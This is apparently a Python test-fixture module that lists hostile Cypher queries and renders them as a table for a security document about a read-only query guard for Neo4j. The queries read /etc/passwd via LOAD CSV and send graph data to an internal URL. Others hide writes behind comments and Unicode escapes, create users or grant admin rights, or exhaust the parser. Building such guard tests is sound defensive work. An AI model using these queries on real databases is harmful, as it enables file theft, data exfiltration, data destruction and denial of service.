"""Texts that ask for more than reading: what each would do if it ran. docs/security.md prints this table.

{file} is a file that must not be read, {url} an address that must not be asked; the document shows them so.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Attempt:
    """One text. `kind` groups the document's table; `writes` says that it would change what is stored."""

    id: str
    kind: str
    text: str
    would: str

    @property
    def writes(self) -> bool:
        return self.kind in ("writes", "hidden writes", "schema and rights")


def _of(kind: str, *rows: tuple[str, str, str]) -> Iterator[Attempt]:
    return (Attempt(name, kind, text, would) for name, text, would in rows)


ATTEMPTS: tuple[Attempt, ...] = (
    *_of(
        "files and network",
        ("load-csv", "LOAD CSV FROM 'file://{file}' AS line RETURN line", "read a file"),
        ("load-csv-headers", "LOAD CSV WITH HEADERS FROM 'file://{file}' AS line RETURN line", "read a file"),
        ("load-csv-path", "LOAD CSV FROM '{file}' AS line RETURN line", "read a file"),
        ("load-csv-url", "LOAD CSV FROM '{url}' AS line RETURN line", "ask a server inside the network"),
        ("load-csv-parameter", "LOAD CSV FROM $url AS line RETURN line", "read what a parameter names"),
        ("load-csv-case", "load cSv from 'file://{file}' as line return line", "read a file"),
        ("load-csv-comment", "LOAD/**/CSV FROM 'file://{file}' AS line RETURN line", "read a file"),
        ("load-csv-line-comment", "// x\nLOAD CSV FROM 'file://{file}' AS line RETURN line", "read a file"),
        ("load-csv-return", "// x\rLOAD CSV FROM 'file://{file}' AS line RETURN line", "read a file"),
        ("load-csv-blank", "LOAD\u2003CSV FROM 'file://{file}' AS line RETURN line", "read a file"),
        (
            "load-csv-after",
            "MATCH (n) WITH n LIMIT 1 LOAD CSV FROM '{url}' AS x RETURN x",
            "send a request for each row",
        ),
        ("load-csv-subquery", "CALL {{ LOAD CSV FROM '{url}' AS x RETURN x }} RETURN x", "send a request"),
        ("load-csv-exists", "RETURN EXISTS {{ LOAD CSV FROM '{url}' AS x RETURN x }} AS e", "send a request"),
        ("load-csv-union", "RETURN 1 AS x UNION LOAD CSV FROM '{url}' AS x RETURN x", "send a request"),
        (
            "load-csv-second",
            "RETURN 1; LOAD CSV FROM 'file://{file}' AS x RETURN x",
            "read a file in a second statement",
        ),
        ("load-csv-escape", "LOAD \\u0043SV FROM 'file://{file}' AS x RETURN x", "read a file"),
        ("load-csv-quote", "RETURN '\\u0027 AS a LOAD CSV FROM \\u0027{url}' AS x", "leave a string by an escape"),
        (
            "load-csv-exfiltrate",
            "MATCH (n) LOAD CSV FROM '{url}?' + n.name AS x RETURN x",
            "send the graph's names out",
        ),
        ("load-csv-explain", "PROFILE LOAD CSV FROM 'file://{file}' AS x RETURN x", "read a file"),
        ("load-csv-long-s", "LOAD C\u017fV FROM 'file://{file}' AS x RETURN x", "read a file, where ſ counts as S"),
        ("load-csv-option", "CYPHER runtime=interpreted LOAD CSV FROM 'file://{file}' AS x RETURN x", "read a file"),
        ("file-function", "RETURN file() AS path", "tell the path of an imported file"),
        ("linenumber", "RETURN linenumber() AS n", "tell about an imported file"),
        ("apoc-load-json", "CALL apoc.load.json('{url}') YIELD value RETURN value", "send a request"),
        ("apoc-load-csv", "CALL apoc.load.csv('file://{file}') YIELD list RETURN list", "read a file"),
        (
            "apoc-import",
            "CALL apoc.import.csv([{{fileName: 'file://{file}', labels: ['X']}}], [], {{}})",
            "read a file",
        ),
        ("apoc-export", "CALL apoc.export.csv.all('{file}', {{}})", "write the graph into a file"),
        ("apoc-function", "RETURN apoc.load.jsonParams('{url}', {{}}, null) AS x", "send a request by a function"),
        ("apoc-in-map", "RETURN {{a: apoc.load.json('{url}')}} AS x", "send a request by a function in a map"),
        ("apoc-in-list", "RETURN [x IN [1] | apoc.load.json('{url}')] AS x", "send a request by a function in a list"),
        ("apoc-in-where", "MATCH (n) WHERE apoc.load.json('{url}') RETURN n", "send a request in a condition"),
        ("apoc-in-pattern", "MATCH (n {{name: apoc.load.json('{url}')}}) RETURN n", "send a request in a pattern"),
        ("apoc-in-order", "MATCH (n) RETURN n ORDER BY apoc.load.json('{url}')", "send a request in an order"),
        ("apoc-quoted", "RETURN `apoc`.`load`.`json`('{url}') AS x", "send a request by a quoted name"),
        ("apoc-spaced", "RETURN apoc . load /* x */ . json ('{url}') AS x", "send a request by a name in pieces"),
        ("genai", "RETURN genai.vector.encode('x', 'OpenAI', {{token: 'x'}}) AS v", "send texts to a service"),
        ("ai-text", "RETURN ai.text.completion('x', 'openai', {{token: 'x'}}) AS v", "send texts to a service"),
        ("interpolated", "RETURN s'{{apoc.load.json(\"{url}\")}}' AS x", "run an expression inside a string"),
        ("embedder", "MATCH (n) RETURN text_score(n, 'name', 'x') AS score", "run a model on the texts"),
        ("format-csv", "MATCH (n) RETURN n.name FORMAT CSV", "answer in a form of its own"),
    ),
    *_of(
        "procedures",
        ("run-cypher", "CALL apoc.cypher.doIt('CREATE (:X)', {{}}) YIELD value RETURN value", "run a text that writes"),
        (
            "run-function",
            "RETURN apoc.cypher.runFirstColumnSingle('CREATE (:X)', {{}}) AS x",
            "run a text by a function",
        ),
        ("run-periodic", "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DELETE n', {{}})", "delete in batches"),
        ("trigger", "CALL apoc.trigger.install('neo4j', 'x', 'CREATE (:X)', {{}})", "write at each later change"),
        ("procedure-quoted", "CALL `db.createLabel`('X')", "make a label by a quoted name"),
        ("procedure-label", "CALL db.createLabel('X')", "make a label"),
        ("procedure-vector", "MATCH (n) CALL db.create.setNodeVectorProperty(n, 'x', [1.0])", "set a property"),
        ("procedure-prefix", "CALL db.labels.evil()", "call what begins like a harmless name"),
        ("procedure-config", "CALL dbms.listConfig() YIELD name, value RETURN name, value", "tell the settings"),
        ("procedure-kill", "CALL dbms.killConnection('bolt-1')", "break off another's connection"),
        ("procedure-connections", "CALL dbms.listConnections()", "tell who is connected from where"),
        ("procedure-jmx", "CALL dbms.queryJmx('*:*')", "tell about the machine"),
        ("procedure-caches", "CALL db.clearQueryCaches()", "slow down the server"),
        ("procedure-stats", "CALL db.stats.retrieve('QUERIES')", "tell the texts that others asked"),
        (
            "procedure-subquery",
            "MATCH (n) CALL (n) {{ CALL apoc.x.y(n) YIELD z RETURN z }} RETURN z",
            "call one inside",
        ),
        ("procedure-optional", "OPTIONAL CALL db.createLabel('X')", "make a label"),
        ("procedure-cluster", "CALL pagerank() YIELD node RETURN node", "compute over the whole graph for long"),
        ("procedure-embeddings", "CALL db.node_embeddings.drop({{type: 'Company'}})", "drop vectors (embedded store)"),
        ("procedure-cdc", "CALL db.cdc.enable({{}})", "keep a log of changes (embedded store)"),
        ("procedure-table", "CALL table.upsert({{}})", "change a property (embedded store)"),
        ("procedure-ontology", "CALL db.ontology.clear()", "change the schema (embedded store)"),
    ),
    *_of(
        "writes",
        ("create", "CREATE (:X)", "make a node"),
        ("create-case", "cReAtE (:X)", "make a node"),
        ("insert", "INSERT (:X)", "make a node"),
        ("merge", "MERGE (:X {{id: 1}})", "make a node"),
        ("set", "MATCH (n) SET n.name = 'x'", "change all names"),
        ("set-label", "MATCH (n) SET n:X", "add a label"),
        ("set-dynamic", "MATCH (n) SET n:$('X')", "add a label that a value names"),
        ("set-map", "MATCH (n) SET n = {{}}", "empty all nodes"),
        ("remove", "MATCH (n) REMOVE n.name", "take away all names"),
        ("delete", "MATCH ()-[r]->() DELETE r", "delete all links"),
        ("detach-delete", "MATCH (n) DETACH DELETE n", "delete the graph"),
        ("nodetach", "MATCH (n:X) NODETACH DELETE n", "delete nodes"),
        ("foreach", "MATCH (n) FOREACH (x IN [1] | SET n.name = x)", "change all names"),
        ("create-relation", "MATCH (a), (b) CREATE (a)-[:OWNS]->(b)", "invent links"),
        ("create-after-return", "MATCH (n) RETURN n NEXT CREATE (:X)", "make a node in a later part"),
        ("create-when", "WHEN true THEN CREATE (:X) ELSE RETURN 1", "make a node under a condition"),
        ("create-let", "LET x = 1 CREATE (:X)", "make a node"),
        ("create-finish", "CREATE (:X) FINISH", "make a node without an answer"),
        ("second-statement", "MATCH (n) RETURN n; MATCH (n) DETACH DELETE n", "delete in a second statement"),
        ("define", "DEFINE PROCEDURE p() {{ CREATE (:X) }} CALL p()", "hide a write in a procedure of its own"),
    ),
    *_of(
        "hidden writes",
        ("subquery", "CALL {{ CREATE (:X) }} RETURN 1 AS x", "make a node inside"),
        ("subquery-scope", "MATCH (n) CALL (n) {{ SET n.name = 'x' }} RETURN n", "change names inside"),
        ("subquery-old", "MATCH (n) CALL {{ WITH n DETACH DELETE n }} RETURN 1 AS x", "delete inside"),
        (
            "subquery-deep",
            "CALL {{ CALL {{ CALL {{ CREATE (:X) }} }} }} RETURN 1 AS x",
            "make a node three levels down",
        ),
        ("transactions", "MATCH (n) CALL (n) {{ DETACH DELETE n }} IN TRANSACTIONS OF 1 ROW", "delete in steps"),
        ("concurrent", "MATCH (n) CALL (n) {{ DETACH DELETE n }} IN 4 CONCURRENT TRANSACTIONS", "delete side by side"),
        ("exists", "RETURN EXISTS {{ CREATE (:X) RETURN 1 }} AS e", "make a node in a condition"),
        ("count", "RETURN COUNT {{ MERGE (x:X) RETURN x }} AS n", "make a node while counting"),
        ("collect", "RETURN COLLECT {{ MERGE (x:X) RETURN x }} AS n", "make a node while collecting"),
        ("union", "RETURN 1 AS x UNION CREATE (n:X) RETURN n AS x", "make a node in the other half"),
        ("after-comment", "MATCH (n) /* only reads */SET n.name = 'x'", "change names behind a comment"),
        ("after-line-comment", "MATCH (n) // only reads\nSET n.name = 'x'", "change names behind a comment"),
        ("after-return-comment", "MATCH (n) // only reads\rSET n.name = 'x'", "change names behind a comment"),
        ("nested-comment", "MATCH (n) /* /* */ SET n.name = 'x' //*/", "change names where one reader sees a comment"),
        ("quote-in-comment", "MATCH (n) /* ' */ SET n.name = 'x'", "change names where a quote seems open"),
        ("comment-in-quote", "MATCH (n) WHERE n.name = '/*' SET n.name = '*/'", "change names between two strings"),
        ("escaped-quote", "MATCH (n) WHERE n.name = '\\\\' SET n.name = ''", "change names behind a backslash"),
        ("backtick", "MATCH (n) WITH n AS `x``y` SET `x``y`.name = 'x'", "change names behind a quoted name"),
        ("escape-keyword", "\\u0043REATE (:X)", "make a node by an escape"),
        ("escape-quote", "MATCH (n) WHERE n.name = '\\u0027 SET n.name = \\u0027'", "leave a string by an escape"),
        ("escape-comment", "MATCH (n) // \\u000A SET n.name = 'x'", "end a comment by an escape"),
        ("number", "MATCH (n) WHERE n.sources = 1SET n.name = 'x'", "change names behind a number"),
        ("number-point", "MATCH (n) WHERE n.sources = 1.SET n.name = 'x'", "change names behind a number"),
        ("blank", "MATCH (n)\u2003SET\u2003n.name\u2003=\u20031", "change names between odd blanks"),
        ("explain", "EXPLAIN CREATE (:X)", "plan a write"),
        ("profile", "PROFILE CREATE (:X)", "make a node while measuring"),
        ("option", "CYPHER 25 CREATE (:X)", "make a node in the newer language"),
        ("keyword-name", "MATCH (match) WITH match SET match.name = 1", "change names where a name is a keyword"),
        ("star", "MATCH (n) WITH * SET n.name = 1", "change names behind a star"),
        ("case", "MATCH (n) WITH CASE WHEN true THEN n END AS n SET n.name = 1", "change names behind END"),
    ),
    *_of(
        "schema and rights",
        ("index", "CREATE INDEX x FOR (n:X) ON (n.y)", "make an index"),
        ("drop-index", "DROP INDEX entity_names", "drop an index"),
        ("constraint", "CREATE CONSTRAINT x FOR (n:X) REQUIRE n.id IS UNIQUE", "make a constraint"),
        ("user", "CREATE USER mallory SET PASSWORD 'xxxxxxxx'", "make a user"),
        ("password", "ALTER CURRENT USER SET PASSWORD FROM 'x' TO 'yyyyyyyy'", "change the password"),
        ("grant", "GRANT ROLE admin TO mallory", "give rights"),
        ("database", "CREATE DATABASE x", "make a database"),
        ("drop-database", "DROP DATABASE neo4j", "drop a database"),
        ("stop-database", "STOP DATABASE neo4j", "stop a database"),
    ),
    *_of(
        "other data",
        ("use", "USE system SHOW USERS", "ask another database"),
        ("use-by-name", "USE graph.byName('system') MATCH (n) RETURN n", "ask a database that a value names"),
        ("use-inside", "CALL {{ USE system MATCH (n) RETURN n }} RETURN n", "ask another database inside"),
        ("show-users", "SHOW USERS", "tell the users"),
        ("show-settings", "SHOW SETTINGS", "tell the settings"),
        ("show-transactions", "SHOW TRANSACTIONS YIELD currentQuery RETURN currentQuery", "tell what others ask"),
        ("terminate", "TERMINATE TRANSACTIONS 'neo4j-transaction-1'", "break off another's query"),
        ("valid-time", "FOR VALID_TIME ALL MATCH (n) RETURN n", "ask another state (embedded store)"),
    ),
    *_of(
        "without end",
        ("star-path", "MATCH (a)-[*]->(b) RETURN count(*)", "follow every path"),
        ("open-path", "MATCH (a)-[*2..]-(b) RETURN count(*)", "follow every path"),
        ("long-path", "MATCH (a)-[*..100]-(b) RETURN count(*)", "follow nearly every path"),
        ("plus-path", "MATCH (a)-->+(b) RETURN count(*)", "follow every path"),
        ("braces-path", "MATCH (a)--{{1,}}(b) RETURN count(*)", "follow every path"),
        ("group-path", "MATCH (a) ((x)--(y))+ (b) RETURN count(*)", "follow every path"),
        ("shortest-path", "MATCH (a), (b) MATCH p = allShortestPaths((a)-[*]-(b)) RETURN p", "search without an end"),
        ("condition-path", "MATCH (a) WHERE (a)-[*]-() RETURN count(*)", "follow every path in a condition"),
        ("subquery-path", "MATCH (a) RETURN COUNT {{ (a)-[*]-() }} AS n", "follow every path while counting"),
        ("list-path", "MATCH (a) RETURN [(a)-[*]-(b) | b.name] AS names", "follow every path in a list"),
        ("deep", "RETURN " + "(" * 200 + "1" + ")" * 200 + " AS x", "take the parser's stack"),
        ("unions", "RETURN 1 AS x" + " UNION RETURN 1 AS x" * 400, "end the process of the embedded store"),
        ("wide", "RETURN 1" + " + 1" * 20_000 + " AS x", "take the parser's time"),
        ("long", "RETURN '" + "x" * 200_000 + "' AS x", "take memory"),
    ),
)


def table() -> Iterator[str]:
    """The attempts as the lines of docs/security.md."""
    yield "| kind | attempt | would |"
    yield "|---|---|---|"
    for attempt in ATTEMPTS:
        text = attempt.text.format(file="/etc/passwd", url="http://10.0.0.1/")
        yield f"| {attempt.kind} | `` {_shown(text)} `` | {attempt.would} |"


def _shown(text: str) -> str:
    cut = text if len(text) < 100 else f"{text[:40]} … ({len(text):,} characters)"
    plain = "".join(c if c.isascii() and c.isprintable() else f"<U+{ord(c):04X}>" for c in cut)
    return plain.replace("|", "\\|")
